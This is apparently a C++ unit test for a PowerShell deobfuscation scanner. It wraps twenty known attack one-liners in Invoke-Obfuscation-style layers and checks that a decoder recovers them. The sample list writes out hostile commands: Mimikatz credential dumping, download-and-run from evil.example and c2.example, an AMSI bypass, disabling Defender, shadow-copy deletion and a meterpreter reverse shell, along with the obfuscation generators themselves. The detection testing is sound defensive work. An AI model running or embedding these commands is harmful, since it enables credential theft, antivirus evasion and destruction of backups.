// A small Invoke-Obfuscation look-alike written in the test: TOKEN (ticks),
// STRING (concatenation, -f reordering, reversal), ENCODING (ASCII / hex /
// octal / binary char codes, delimited strings, -bxor) and Base64 launchers,
// plus the byte-level families -- BXOR (a byte array XORed with a key written
// as -bxor, or with a key the script never shows), ROT13 literals, hex byte
// arrays and SecureString with a literal -Key --
// applied singly and nested 2-4 deep (seeded) to known clear scripts. The
// layered decoder must reveal the clear signature text in some layer, with
// the expected decoders on the path from the root to that layer.
#include <algorithm>
#include <cstdint>
#include <random>
#include <set>
#include <string>
#include <vector>

#include <openssl/evp.h>

#include <cstdio>

#include "decoders/layered_decoder.h"
#include "decoders/rotation.h"
#include "decoders/secure_string.h"
#include "decoders/xor.h"
#include "zlib.h"
#include "gtest/gtest.h"
#include "tests/decoders/test_util.h"

namespace sbscan::decoders {
namespace {

using ::sbscan::decoders::testing::Base64Encode;
using ::sbscan::decoders::testing::EncodeCommand;

struct Clear {
  const char* script;
  const char* signature;
};

const Clear kScripts[] = {
    {"IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/mattifestation/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds", "Invoke-Mimikatz -DumpCreds"},
    {"(New-Object System.Net.WebClient).DownloadFile('http://10.0.0.5/a.exe', \"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\"", "DownloadFile"},
    {"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", "amsiInitFailed"},
    {"Invoke-WebRequest -Uri http://evil.example/payload.ps1 -OutFile C:\\Users\\Public\\p.ps1; powershell -ep bypass -f C:\\Users\\Public\\p.ps1", "Invoke-WebRequest"},
    {"IEX (iwr 'http://192.168.1.10/PowerView.ps1' -UseBasicParsing); Get-DomainUser -SPN | Select-Object samaccountname", "Get-DomainUser"},
    {"Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'", "sekurlsa::logonpasswords"},
    {"$c = New-Object System.Net.Sockets.TCPClient('10.10.10.10',4444); $s = $c.GetStream()", "System.Net.Sockets.TCPClient"},
    {"Set-MpPreference -DisableRealtimeMonitoring $true", "DisableRealtimeMonitoring"},
    {"Add-MpPreference -ExclusionPath C:\\Windows\\Temp", "ExclusionPath"},
    {"vssadmin delete shadows /all /quiet; wbadmin delete catalog -quiet", "delete shadows"},
    {"Invoke-Kerberoast -OutputFormat Hashcat | Out-File hashes.txt", "Invoke-Kerberoast"},
    {"Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }", "Win32_Shadowcopy"},
    {"[System.Reflection.Assembly]::Load([IO.File]::ReadAllBytes('C:\\t\\SharpHound.exe'))", "SharpHound"},
    {"New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Updater -Value 'powershell -w hidden -nop -c calc'", "CurrentVersion\\Run"},
    {"Start-BitsTransfer -Source http://evil.example/x.exe -Destination $env:APPDATA\\x.exe", "Start-BitsTransfer"},
    {"Invoke-Shellcode -Payload windows/meterpreter/reverse_https -Lhost 10.0.0.1 -Lport 443 -Force", "Invoke-Shellcode"},
    {"wevtutil cl Security; Clear-EventLog -LogName System", "Clear-EventLog"},
    {"Invoke-TokenManipulation -ImpersonateUser -Username 'NT AUTHORITY\\SYSTEM'", "Invoke-TokenManipulation"},
    {"$wc=New-Object Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');IEX $wc.DownloadString('http://c2.example/stage2')", "DownloadString"},
    {"Copy-Item C:\\Windows\\NTDS\\ntds.dit C:\\Temp\\ntds.dit; reg save HKLM\\SYSTEM C:\\Temp\\system.hive", "ntds.dit"},
};

// A transform and the decoder expected to undo it.
struct Family {
  const char* name;
  const char* decoder;
  std::string (*apply)(const std::string&, std::mt19937&);
};

std::string SingleQuote(std::string_view s) {
  std::string out = "'";
  for (char c : s) {
    if (c == '\'') out += '\'';
    out += c;
  }
  return out + "'";
}

// Pieces of 1-8 bytes.
std::vector<std::string> Split(const std::string& s, std::mt19937& rng) {
  std::vector<std::string> parts;
  for (size_t i = 0; i < s.size();) {
    const size_t n = std::min<size_t>(s.size() - i, 1 + rng() % 8);
    parts.push_back(s.substr(i, n));
    i += n;
  }
  return parts;
}

// TOKEN ticks: a backtick before some letters of each command name
// (Verb-Noun barewords outside quotes, brackets and variables; never before
// an escape letter 0abefnrtuv), as Invoke-Obfuscation's TOKEN\COMMAND does.
std::string Ticks(const std::string& s, std::mt19937& rng) {
  std::string out;
  char quote = 0;
  int bracket = 0;
  for (size_t i = 0; i < s.size();) {
    const char c = s[i];
    if (quote) {
      if (c == quote) quote = 0;
      out += s[i++];
      continue;
    }
    if (c == '\'' || c == '"') quote = c;
    if (c == '[') ++bracket;
    if (c == ']' && bracket > 0) --bracket;
    const bool boundary = i == 0 || std::string_view(" (;|{").find(s[i - 1]) !=
                                        std::string_view::npos;
    if (bracket == 0 && boundary && std::isalpha(static_cast<unsigned char>(c))) {
      size_t e = i;
      while (e < s.size() && (std::isalnum(static_cast<unsigned char>(s[e])) ||
                              s[e] == '-')) {
        ++e;
      }
      const std::string word = s.substr(i, e - i);
      const size_t dash = word.find('-');
      if (dash != std::string::npos && dash > 0 && dash + 1 < word.size()) {
        const auto eligible = [&](size_t k) {
          return k > 0 && std::isalpha(static_cast<unsigned char>(word[k])) &&
                 std::string_view("0abefnrtuvABEFNRTUV").find(word[k]) ==
                     std::string_view::npos;
        };
        // At least one tick per command name.
        size_t forced = word.size();
        for (size_t k = 0; k < word.size(); ++k) {
          if (eligible(k)) forced = k;
        }
        for (size_t k = 0; k < word.size(); ++k) {
          if (eligible(k) && (k == forced || rng() % 3 == 0)) out += '`';
          out += word[k];
        }
        i = e;
        continue;
      }
    }
    out += s[i++];
  }
  return out;
}

// STRING concatenation: ('pi'+'ec'+'es') | IEX
std::string Concat(const std::string& s, std::mt19937& rng) {
  std::string expr;
  for (const std::string& p : Split(s, rng)) {
    if (!expr.empty()) expr += rng() % 2 ? "+" : " + ";
    expr += SingleQuote(p);
  }
  return "IEX (" + expr + ")";
}

// STRING / TOKEN reorder: ("{1}{0}" -f 'b','a') | IEX
std::string Reorder(const std::string& s, std::mt19937& rng) {
  std::vector<std::string> parts = Split(s, rng);
  std::vector<size_t> order(parts.size());
  for (size_t i = 0; i < order.size(); ++i) order[i] = i;
  std::shuffle(order.begin(), order.end(), rng);
  // parts[i] is argument order[i]; the format string lists them in order.
  std::vector<std::string> args(parts.size());
  std::string fmt;
  for (size_t i = 0; i < parts.size(); ++i) {
    args[order[i]] = parts[i];
    fmt += "{" + std::to_string(order[i]) + "}";
  }
  std::string out = "IEX (\"" + fmt + "\" -f ";
  for (size_t i = 0; i < args.size(); ++i) {
    if (i) out += ",";
    out += SingleQuote(args[i]);
  }
  return out + ")";
}

// STRING reverse, one of Invoke-Obfuscation's three idioms.
std::string Reverse(const std::string& s, std::mt19937& rng) {
  const std::string rev(s.rbegin(), s.rend());
  switch (rng() % 3) {
    case 0:
      return "$r = " + SingleQuote(rev) +
             "; IEX (-join ($r[-1..-($r.Length)]))";
    case 1:
      return "$r = [char[]]" + SingleQuote(rev) +
             "; [Array]::Reverse($r); IEX (-join $r)";
    default:
      return "IEX (-join [regex]::Matches(" + SingleQuote(rev) +
             ",'.','RightToLeft'))";
  }
}

std::string ToBase(uint32_t v, int base) {
  std::string d;
  do {
    d += "0123456789abcdef"[v % base];
    v /= base;
  } while (v);
  return std::string(d.rbegin(), d.rend());
}

// ENCODING: char codes in decimal / hex / octal / binary, as a list or a
// delimited string, or [char]N casts; with -bxor for decimal lists.
std::string CharCodes(const std::string& s, std::mt19937& rng) {
  const int bases[] = {10, 16, 8, 2};
  const int base = bases[rng() % 4];
  const std::string conv =
      base == 10 ? "[char][int]$_"
                 : "[char]([Convert]::ToInt16(([string]$_)," +
                       std::to_string(base) + "))";
  switch (rng() % 4) {
    case 0: {  // list
      std::string out = "IEX ((";
      for (size_t i = 0; i < s.size(); ++i) {
        if (i) out += rng() % 2 ? "," : " , ";
        const std::string v = ToBase(static_cast<uint8_t>(s[i]), base);
        out += base == 16 ? "'" + v + "'" : v;
      }
      return out + ") | ForEach-Object { " + conv + " }) -join '')";
    }
    case 1: {  // delimited string split at run time
      const char delims[] = "~@;{}&";
      std::string out = "'";
      for (size_t i = 0; i < s.size(); ++i) {
        if (i) out += delims[rng() % 6];
        out += ToBase(static_cast<uint8_t>(s[i]), base);
      }
      return "IEX ((" + out + "' -split '[~@;{}&]' | ForEach-Object { " +
             conv + " }) -join '')";
    }
    case 2: {  // [char]N casts
      std::string out;
      for (char c : s) {
        if (!out.empty()) out += "+";
        out += "[char]" + std::to_string(static_cast<uint8_t>(c));
      }
      return "IEX (" + out + ")";
    }
    default: {  // -bxor with a literal key
      const int key = 1 + static_cast<int>(rng() % 127);
      std::string out = "IEX (([char[]](";
      for (size_t i = 0; i < s.size(); ++i) {
        if (i) out += ",";
        out += std::to_string(static_cast<uint8_t>(s[i]) ^ key);
      }
      return out + ") | %{ [char]($_ -bxor 0x" + ToBase(key, 16) +
             ") }) -join '')";
    }
  }
}

// Launcher: powershell -enc <Base64 of UTF-16LE>.
std::string Base64Launcher(const std::string& s, std::mt19937& rng) {
  const char* sw[] = {"-enc", "-e", "-EncodedCommand", "/ec"};
  return std::string("powershell -nop -w hidden ") + sw[rng() % 4] + " " +
         EncodeCommand(s);
}

// COMPRESS: raw deflate (DeflateStream) or gzip (GzipStream) + Base64.
std::string Compress(const std::string& s, std::mt19937& rng) {
  const bool gzip = rng() % 2;
  z_stream z{};
  deflateInit2(&z, Z_BEST_COMPRESSION, Z_DEFLATED, gzip ? 31 : -15, 8,
               Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&z, s.size()) + 32, '\0');
  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(s.data()));
  z.avail_in = static_cast<uInt>(s.size());
  z.next_out = reinterpret_cast<Bytef*>(out.data());
  z.avail_out = static_cast<uInt>(out.size());
  deflate(&z, Z_FINISH);
  out.resize(z.total_out);
  deflateEnd(&z);
  const std::string stream =
      gzip ? "IO.Compression.GzipStream" : "IO.Compression.DeflateStream";
  return ".((gv '*mdr*').Name[3,11,2]-join'') (New-Object IO.StreamReader("
         "(New-Object " + stream + "([IO.MemoryStream][Convert]::"
         "FromBase64String('" + Base64Encode(out) + "'),[IO.Compression."
         "CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()";
}


std::string HexBytes(std::string_view bytes, std::string_view sep,
                     std::string_view prefix) {
  std::string out;
  char buf[4];
  for (size_t i = 0; i < bytes.size(); ++i) {
    if (i) out += sep;
    std::snprintf(buf, sizeof(buf), "%02x", static_cast<uint8_t>(bytes[i]));
    out += prefix;
    out += buf;
  }
  return out;
}

// BXOR with the key in the script: a 0x list XORed with -bxor 0xKK.
std::string BxorLiteral(const std::string& s, std::mt19937& rng) {
  const int key = 0x80 + static_cast<int>(rng() % 127);
  std::string x(s);
  for (char& c : x) c = static_cast<char>(c ^ key);
  char k[8];
  std::snprintf(k, sizeof(k), "0x%02X", key);
  return "$b = [byte[]](" + HexBytes(x, ",", "0x") +
         "); IEX ([Text.Encoding]::ASCII.GetString(($b | ForEach-Object { "
         "$_ -bxor " + k + " })))";
}

// BXOR with a key the script does not show (fetched at run time): a
// FromBase64String payload of bytes XORed with a 1-3 byte key.
std::string BxorRecovered(const std::string& s, std::mt19937& rng) {
  // Recovery needs ~32 bytes per key byte: short scripts get short keys.
  std::string key(s.size() >= 160 ? 1 + rng() % 3 : 1 + rng() % 2, '\0');
  for (char& c : key) c = static_cast<char>(0x80 + rng() % 127);
  std::string x;
  // Recovery scores the result: a short text under a long key may not be
  // recoverable (xor_test.cc measures that); draw again, down to one byte.
  for (int attempt = 0;; ++attempt) {
    x = s;
    for (size_t i = 0; i < x.size(); ++i) x[i] = static_cast<char>(x[i] ^ key[i % key.size()]);
    XorRecovery rec;
    if (attempt >= 8 || (RecoverXorKey(x, XorRecoveryOptions{}, &rec) && rec.key == key)) break;
    if (attempt + 1 >= 8) return BxorLiteral(s, rng);  // still an xor layer
    key.resize(attempt < 4 ? key.size() : 1);
    for (char& c : key) c = static_cast<char>(0x80 + rng() % 127);
  }
  return "$k = (Invoke-RestMethod http://c2.example/k).key; $d = [Convert]::"
         "FromBase64String('" + Base64Encode(x) + "'); IEX ([Text.Encoding]"
         "::ASCII.GetString((0..($d.Length-1) | ForEach-Object { $d[$_] "
         "-bxor $k[$_ % $k.Length] })))";
}

// ROT13 of the script in a literal, decoded by a char loop at run time.
std::string Rot13(const std::string& s, std::mt19937&) {
  std::string r;
  RotateLetters(s, 13, &r);
  std::string lit;
  for (char c : r) {
    lit += c;
    if (c == '\'') lit += '\'';
  }
  return "$r = '" + lit + "'; IEX (($r.ToCharArray() | ForEach-Object { "
         "$c = [int]$_; if ($c -ge 97 -and $c -le 122) { [char](97 + ($c - "
         "84) % 26) } elseif ($c -ge 65 -and $c -le 90) { [char](65 + ($c - "
         "52) % 26) } else { $_ } }) -join '')";
}

// A hex string of the script's bytes, parsed two digits at a time.
std::string HexArray(const std::string& s, std::mt19937& rng) {
  const char* seps[] = {"", " ", "-", ":"};
  const std::string sep = seps[rng() % 4];
  return "$h = '" + HexBytes(s, sep, "") + "'; $b = [byte[]]($h -replace "
         "'[^0-9a-f]','' -split '(..)' -ne '' | ForEach-Object { "
         "[Convert]::ToByte($_, 16) }); IEX ([Text.Encoding]::UTF8.GetString"
         "($b))";
}

// What ConvertFrom-SecureString -Key writes for `plain` (AES-CBC).
std::string SecureBlob(std::string_view plain, std::string_view key,
                       std::string_view iv) {
  const std::string utf16 = testing::Utf16le(plain);
  const EVP_CIPHER* cipher = key.size() == 16   ? EVP_aes_128_cbc()
                             : key.size() == 24 ? EVP_aes_192_cbc()
                                                : EVP_aes_256_cbc();
  std::string ct(utf16.size() + 32, '\0');
  int n1 = 0, n2 = 0;
  EVP_CIPHER_CTX* ctx = EVP_CIPHER_CTX_new();
  EVP_EncryptInit_ex(ctx, cipher, nullptr,
                     reinterpret_cast<const unsigned char*>(key.data()),
                     reinterpret_cast<const unsigned char*>(iv.data()));
  EVP_EncryptUpdate(ctx, reinterpret_cast<unsigned char*>(ct.data()), &n1,
                    reinterpret_cast<const unsigned char*>(utf16.data()),
                    static_cast<int>(utf16.size()));
  EVP_EncryptFinal_ex(ctx, reinterpret_cast<unsigned char*>(ct.data()) + n1,
                      &n2);
  EVP_CIPHER_CTX_free(ctx);
  ct.resize(static_cast<size_t>(n1 + n2));
  const std::string fields =
      "2|" + Base64Encode(iv) + "|" + HexBytes(ct, "", "");
  return std::string(kSecureStringKeyHeader) +
         Base64Encode(testing::Utf16le(fields));
}

// Invoke-Obfuscation's SECURESTRING encoding with a literal -Key.
std::string SecureString(const std::string& s, std::mt19937& rng) {
  std::string key(rng() % 2 ? 16 : 32, '\0'), iv(16, '\0');
  for (char& c : key) c = static_cast<char>(1 + rng() % 255);
  for (char& c : iv) c = static_cast<char>(rng() % 256);
  std::string list;
  for (size_t i = 0; i < key.size(); ++i) {
    if (i) list += ",";
    list += std::to_string(static_cast<uint8_t>(key[i]));
  }
  return "IEX ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime."
         "InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString "
         "'" + SecureBlob(s, key, iv) + "' -Key (" + list + ")))))";
}

const Family kFamilies[] = {
    {"bxor_literal", "xor", BxorLiteral},
    {"bxor_recovered", "xor", BxorRecovered},
    {"rot13", "rotation", Rot13},
    {"hex_array", "byte_array", HexArray},
    {"securestring", "securestring", SecureString},
    {"compress", "deflate", Compress},
    {"ticks", "normalize", Ticks},
    {"concat", "normalize", Concat},
    {"reorder", "normalize", Reorder},
    {"reverse", "normalize", Reverse},
    {"charcodes", "charcodes", CharCodes},
    {"base64", "base64", Base64Launcher},
};
constexpr size_t kFamilyCount = sizeof(kFamilies) / sizeof(kFamilies[0]);

bool ContainsNoCase(std::string_view hay, std::string_view needle) {
  return std::search(hay.begin(), hay.end(), needle.begin(), needle.end(),
                     [](char a, char b) {
                       return std::tolower(static_cast<unsigned char>(a)) ==
                              std::tolower(static_cast<unsigned char>(b));
                     }) != hay.end();
}

// Runs the decoder; true when some layer holds `signature` and the decoders
// on its path include every name in `expected`. `*why` describes a failure.
bool Reveals(LayeredDecoder& dec, const std::string& text,
             const std::string& signature,
             const std::multiset<std::string>& expected, std::string* why) {
  dec.Run(text, [](const Layer&) {});
  const auto& layers = dec.layers();
  std::string best;
  for (const Layer& l : layers) {
    if (!ContainsNoCase(l.text, signature)) continue;
    std::set<std::string> path;
    std::string shown;
    for (int i = l.index; i > 0; i = layers[static_cast<size_t>(i - 1)].parent) {
      path.insert(std::string(layers[static_cast<size_t>(i - 1)].decoder));
      shown = std::string(layers[static_cast<size_t>(i - 1)].decoder) + "/" + shown;
    }
    bool all = true;
    for (const std::string& e : expected) all = all && path.count(e) > 0;
    if (all) return true;
    best = shown;
  }
  *why = "layers " + std::to_string(layers.size()) +
         (best.empty() ? ", none holds the signature" : ", path " + best);
  return false;
}

TEST(ObfuscationFamiliesTest, SingleLayer) {
  std::mt19937 rng(4104);
  LayeredDecoder dec;
  size_t ok = 0, total = 0;
  for (const Clear& c : kScripts) {
    for (const Family& f : kFamilies) {
      for (int rep = 0; rep < 3; ++rep) {
        const std::string text = f.apply(c.script, rng);
        if (text == c.script) continue;  // nothing to tick in this script
        if (std::string_view(f.name) == "rot13") {
          // Found by vocabulary: a one-cmdlet script rotated is not enough.
          std::string r;
          RotateLetters(c.script, 13, &r);
          if (DetectRotation(r) != 13) continue;
        }
        std::string why;
        ++total;
        const bool found = Reveals(dec, text, c.signature, {f.decoder}, &why);
        ok += found;
        EXPECT_TRUE(found) << f.name << ": " << why << "\n" << text;
      }
    }
  }
  std::printf("single layer: %zu / %zu revealed\n", ok, total);
}

TEST(ObfuscationFamiliesTest, NestedTwoToFourDeep) {
  std::mt19937 rng(20240305);
  LayeredDecoder dec;
  size_t ok = 0, total = 0;
  for (int round = 0; round < 10; ++round) {
    for (const Clear& c : kScripts) {
      const int layers = 2 + static_cast<int>(rng() % 3);
      std::string text = c.script;
      std::multiset<std::string> expected;
      std::string names, last;
      for (int k = 0; k < layers; ++k) {
        const Family& f = kFamilies[rng() % kFamilyCount];
        // Ticks only make sense on code, not on a wrapper's own launcher.
        const std::string next = f.apply(text, rng);
        if (next == text) continue;  // nothing to tick
        // ROT13 is found by the PowerShell vocabulary it hides: a text with
        // too little of it (a bare Base64 launcher) is not a ROT13 layer
        // anyone writes; skip such draws.
        if (std::string_view(f.name) == "rot13") {
          std::string r;
          RotateLetters(text, 13, &r);
          if (DetectRotation(r) != 13 || last == "rot13") continue;
        }
        // Ticks on a wrapper's own code (ForEach-Object) are not needed to
        // reveal the payload: expect their decoder only when they hit the
        // signature itself.
        const bool needed = std::string_view(f.name) != "ticks" ||
                            (text.find(c.signature) != std::string::npos &&
                             next.find(c.signature) == std::string::npos);
        text = next;
        // Two reversals in a row put the inner literal back in order: the
        // inner payload may then be decoded without normalisation.
        if (std::string_view(f.name) == "reverse" && last == "reverse") {
          expected.erase(expected.find("normalize"));
          last.clear();
          continue;
        }
        last = f.name;
        if (needed) expected.insert(f.decoder);
        names += std::string(names.empty() ? "" : " > ") + f.name;
      }
      std::string why;
      ++total;
      const bool found = Reveals(dec, text, c.signature, expected, &why);
      ok += found;
      EXPECT_TRUE(found) << names << ": " << why << "\n" << text.substr(0, 400);
    }
  }
  std::printf("nested: %zu / %zu revealed\n", ok, total);
}

// Every byte-level family under every other, two deep, checked both ways.
TEST(ObfuscationFamiliesTest, ByteLevelPairs) {
  std::mt19937 rng(77);
  LayeredDecoder dec;
  size_t ok = 0, total = 0;
  for (size_t a = 0; a < 5; ++a) {      // byte-level families come first
    for (size_t b = 0; b < kFamilyCount; ++b) {
      const Clear& c = kScripts[(a * 7 + b) % (sizeof(kScripts) / sizeof(kScripts[0]))];
      if (std::string_view(kFamilies[b].name) == "rot13") {
        std::string rc;
        RotateLetters(c.script, 13, &rc);
        if (DetectRotation(rc) != 13) continue;
      }
      std::string inner = kFamilies[b].apply(c.script, rng);
      if (inner == c.script) continue;
      std::string r;
      RotateLetters(inner, 13, &r);
      if (std::string_view(kFamilies[a].name) == "rot13" &&
          (DetectRotation(r) != 13 || a == b)) {
        continue;
      }
      const std::string text = kFamilies[a].apply(inner, rng);
      std::multiset<std::string> expected = {kFamilies[a].decoder};
      if (std::string_view(kFamilies[b].name) != "ticks") {
        expected.insert(kFamilies[b].decoder);
      }
      std::string why;
      ++total;
      const bool found = Reveals(dec, text, c.signature, expected, &why);
      ok += found;
      EXPECT_TRUE(found) << kFamilies[a].name << " > " << kFamilies[b].name
                         << ": " << why << "\n" << text.substr(0, 300);
    }
  }
  std::printf("byte-level pairs: %zu / %zu revealed\n", ok, total);
}

}  // namespace
}  // namespace sbscan::decoders
